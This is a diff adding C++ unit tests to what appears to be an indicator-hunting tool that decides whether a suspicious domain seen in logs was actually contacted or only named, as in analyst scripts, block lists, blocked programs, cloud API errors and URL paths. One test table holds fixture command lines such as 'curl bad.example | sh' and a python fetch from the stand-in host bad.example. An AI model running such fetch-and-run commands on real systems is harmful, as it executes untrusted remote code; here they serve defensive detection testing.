@@ -446,6 +446,34 @@ TEST(Research, OfAnAnalystIsExplainedButContactIsNot) {
   expect_counts(contact.finding(), Grade::contacted);
 }
 
+TEST(Research, AScriptOfAnAnalystIsHandedTheValueAndDoesNotRunIt) {
+  struct Row {
+    std::string_view program, line;
+    bool explained;
+  };
+  for (const Row& row : {Row{"/usr/bin/python3", "python3 hunt.py --domain bad.example", true},
+                         {"/usr/bin/python3", "python3 -c 'import urllib; urlopen(\"http://bad.example\")'", false},
+                         {"/usr/bin/curl", "curl -O https://bad.example/x", false},
+                         {"/bin/bash", "/bin/bash -c \"curl bad.example | sh\"", false}}) {
+    Scene scene(ValueType::domain, "bad.example");
+    scene.file("osquery").device(analyst()).sighting(event_of(EventClass::process_activity, noon,
+                                                              {{Attribute::device_hostname, "lab-1"},
+                                                               {Attribute::process_path, row.program},
+                                                               {Attribute::process_cmd_line, row.line}}),
+                                                     {Attribute::process_cmd_line});
+    EXPECT_EQ(scene.finding().status == FindingStatus::explained, row.explained) << row.line;
+  }
+  Scene elsewhere(ValueType::domain, "bad.example");
+  elsewhere.file("osquery")
+      .device(ordinary())
+      .sighting(event_of(EventClass::process_activity, noon,
+                         {{Attribute::device_hostname, "desk-7"},
+                          {Attribute::process_path, "/usr/bin/python3"},
+                          {Attribute::process_cmd_line, "python3 sync.py --to bad.example"}}),
+                {Attribute::process_cmd_line});
+  expect_counts(elsewhere.finding(), Grade::executed);
+}
+
 TEST(SearchCommand, OfATypedLineTheCommandThatNamesTheValueTells) {
   struct Row {
     std::string_view line;
@@ -581,6 +609,22 @@ TEST(Blocked, ByAControlIsExplained) {
   expect_explained(scene.finding(), "blocked");
 }
 
+TEST(Blocked, AProgramThatWasRefusedHasNotRun) {
+  for (const auto disposition : {model::Disposition::blocked, model::Disposition::quarantined}) {
+    Scene scene(ValueType::sha256, std::string(64, 'a'));
+    auto event = event_of(EventClass::process_activity, noon,
+                          {{Attribute::device_hostname, "desk-7"},
+                           {Attribute::process_path, "/opt/x/run"},
+                           {Attribute::file_sha256, std::string(64, 'a')}});
+    event.activity = model::activity::process_launch;
+    event.disposition = disposition;
+    scene.file("santa").sighting(std::move(event), {Attribute::file_sha256});
+    const auto finding = scene.finding();
+    expect_explained(finding, "blocked");
+    EXPECT_EQ(finding.grade, Grade::attempted);
+  }
+}
+
 model::Event sign_in(std::string_view ip, std::string_view type, std::string_view mfa, std::string_view os,
                      bool success = true) {
   auto event = event_of(EventClass::authentication, noon,
@@ -686,6 +730,24 @@ TEST(SignIn, ThatFailedIsExplained) {
   expect_explained(scene.finding(), "failed-sign-in");
 }
 
+TEST(Calls, ThatTheKeyHadNoRightToShowThatSomebodyHasTheKey) {
+  const auto finding = [](std::string_view error, std::string_view key) {
+    auto event = event_of(EventClass::api_activity, noon,
+                          {{Attribute::src_ip, "203.0.113.9"},
+                           {Attribute::actor_user_name, "deploy"},
+                           {Attribute::api_operation, "ListUsers"},
+                           {Attribute::api_error, error}});
+    if (!key.empty()) event.add(Attribute::actor_credential_uid, key);
+    event.status = model::Status::failure;
+    Scene scene(ValueType::ipv4, "203.0.113.9");
+    scene.file("cloudtrail").sighting(std::move(event), {Attribute::src_ip});
+    return scene.finding();
+  };
+  expect_counts(finding("AccessDenied", "AKIAEXAMPLE0000000001"), Grade::authenticated);
+  expect_explained(finding("AccessDenied", ""), "failed-sign-in");
+  expect_explained(finding("InvalidClientTokenId", "AKIAEXAMPLE0000000001"), "failed-sign-in");
+}
+
 TEST(Package, PlaceholderIsHarmlessAndAnotherVersionIsNot) {
   const auto lock = [](std::string_view version) {
     return event_of(EventClass::other, "",
@@ -764,6 +826,38 @@ TEST(IndicatorList, AtRestIsExplainedAndALogIsNot) {
   expect_counts(log.finding(), Grade::mentioned);
 }
 
+TEST(IndicatorList, ALineOfABlockListHasTheValueAndNothingMore) {
+  struct Line {
+    std::string_view raw;
+    bool explained;
+  };
+  const auto finding = [](std::string_view raw, std::string_view file, std::string_view time) {
+    Scene scene(ValueType::domain, "bad.example");
+    scene.file("text").device(ordinary()).sighting(event_of(EventClass::other, time, {}), {Attribute::message});
+    scene.scan.kept[0].sightings[0].raw = raw;
+    scene.scan.files[0].name = file;
+    scene.scan.files[0].records_with_time = 0;
+    return scene.finding();
+  };
+  for (const Line& line : {Line{"bad.example", true},
+                           {"  \"bad.example\",", true},
+                           {"0.0.0.0 bad.example", true},
+                           {"||bad.example^", true},
+                           {"*.bad.example CNAME .", true},
+                           {"local-zone: \"bad.example\" always_nxdomain", true},
+                           {"address=/bad.example/", true},
+                           {"bad.example,domain,block", true},
+                           {"10.1.0.7 bad.example", false},
+                           {"desk-7 bad.example", false},
+                           {"visited bad.example", false}}) {
+    const auto of_line = finding(line.raw, "lists/block.txt", "");
+    EXPECT_EQ(of_line.status == FindingStatus::explained, line.explained) << line.raw;
+  }
+  expect_counts(finding("bad.example", "lists/block.txt", noon), Grade::mentioned);
+  // What was found on a device may be listed without a word.
+  expect_counts(finding("bad.example", "desk-7/visited.txt", ""), Grade::mentioned);
+}
+
 TEST(Mail, NamesAndDoesNotFollow) {
   Scene scene(ValueType::domain, "bad.example");
   scene.file("mail").sighting(
@@ -807,6 +901,26 @@ TEST(NamedElsewhere, AWebRequestToAnotherHostIsNoContact) {
                           {Attribute::http_status, "200"}}),
                 {Attribute::http_path});
   expect_explained(scene.finding(), "named-in-another-request");
+}
+
+TEST(NamedElsewhere, InThePathOfAUrlItIsNotTheHost) {
+  const auto finding = [](ValueType type, std::string_view value, std::string_view url) {
+    Scene scene(type, value);
+    scene.file("proxy")
+        .device(ordinary())
+        .sighting(event_of(EventClass::http_activity, noon,
+                           {{Attribute::src_ip, "10.1.0.7"}, {Attribute::url, url}, {Attribute::http_status, "200"}}),
+                  {Attribute::url});
+    return scene.finding();
+  };
+  for (const std::string_view url : {"https://lookup.example/domain/bad.example", "lookup.example/?q=bad.example",
+                                     "https://lookup.example:8443/r?to=https://bad.example/x"})
+    expect_explained(finding(ValueType::domain, "bad.example", url), "named-in-another-request");
+  for (const std::string_view url : {"https://bad.example/x", "bad.example:443", "http://kim@bad.example/?bad.example"})
+    expect_counts(finding(ValueType::domain, "bad.example", url), Grade::contacted);
+  expect_counts(finding(ValueType::url, "https://bad.example/x", "https://bad.example/x"), Grade::contacted);
+  expect_explained(finding(ValueType::url, "https://bad.example/x", "https://lookup.example/?u=https://bad.example/x"),
+                   "named-in-another-request");
 }
 
 TEST(Findings, TheSameRecordTwiceIsOneAndIsCounted) {
